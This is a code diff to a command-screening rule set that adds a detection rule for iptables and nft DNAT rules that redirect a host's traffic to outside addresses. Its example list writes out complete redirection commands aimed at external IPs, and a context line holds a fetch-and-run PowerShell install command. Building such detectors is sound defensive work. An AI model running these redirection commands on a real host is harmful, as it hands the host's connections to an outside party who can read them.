@@ -1078,6 +1078,24 @@ export const RULES: readonly Rule[] = [
       quiet: [{ Filesystem: { operation: 'Write', path: 'tools/open-docs.vbs', content: 'Set s = CreateObject("WScript.Shell")\ns.Run "notepad.exe README.md"\n' } }, "powershell.exe -NoProfile -Command 'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser; irm https://get.scoop.sh | iex'", 'certutil.exe -hashfile setup.exe SHA256', 'msiexec.exe /i C:\\Users\\me\\Downloads\\node-v20.msi /qn', "powershell.exe -Command 'Invoke-WebRequest https://github.com/acme/tool/releases/download/v1.2/tool.zip -OutFile tool.zip'"],
     },
   },
+  {
+    id: 'PX-C2-031', name: 'redirects-traffic-to-outside-host', score: 75, tactic: 'command_and_control', technique: 'T1090',
+    message: "Rewrites the host's traffic to an outside address with a NAT rule",
+    why: "A DNAT rule sends connections meant for a port or a service to someone else's machine: every client of the host, and the host's own requests, talk to the attacker instead, who reads them on the way.",
+    alternative: 'Forward ports to machines of your own network, or use the service’s own proxy settings.',
+    commands: ['iptables', 'ip6tables', 'iptables-nft', 'iptables-legacy', 'nft'],
+    test: (c) => {
+      const a = c.argv;
+      // iptables' `-j DNAT --to-destination 45.137.21.9:443`, nft's `dnat to 45.137.21.9:443` (ip[:port], [ip6]:port)
+      const to = c.name === 'nft' ? a[a.findIndex((w, k) => /^dnat$/i.test(w) && /^to$/i.test(a[k + 1] ?? '')) + 2] : a.includes('DNAT') ? optionValue(a, ['--to-destination', '--to']) : undefined;
+      const host = to?.replace(/^\[([^\]]{1,64})\](?::\d{1,5})?$|^([^:]{1,64}):\d{1,5}(?:-\d{1,5})?$/, '$1$2');
+      return host !== undefined && host !== '' && external(host) ? a.join(' ') : undefined;
+    },
+    examples: {
+      fire: ['sudo sysctl -w net.ipv4.ip_forward=1 && sudo iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination 45.137.21.9:443 && sudo iptables -t nat -A POSTROUTING -j MASQUERADE', 'sudo nft add rule ip nat prerouting tcp dport 80 dnat to 185.220.101.47:8080'],
+      quiet: ['sudo iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.0.3.15:8080', 'sudo iptables -t nat -A OUTPUT -p tcp --dport 8443 -j DNAT --to-destination 127.0.0.1:443', 'sudo iptables -t nat -L -n -v'],
+    },
+  },
 ];
 
 export const commandAndControl = ruleAnalyzer('command_and_control', RULES);
